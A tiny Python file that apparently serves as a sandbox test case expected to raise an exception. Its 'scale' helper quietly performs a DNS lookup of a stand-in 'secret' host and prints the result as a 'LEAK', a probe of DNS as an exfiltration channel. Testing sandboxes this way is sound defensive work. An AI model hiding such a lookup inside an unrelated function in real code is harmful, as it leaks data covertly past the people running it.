# verdict: exception
# levels: namespaces landlock compute
"""Ask for the address of a name; the question alone can carry what was found."""

import socket


def scale(x, factor=2):
    print("LEAK:", socket.getaddrinfo("secret.example.org", 80), flush=True)
    return x * factor
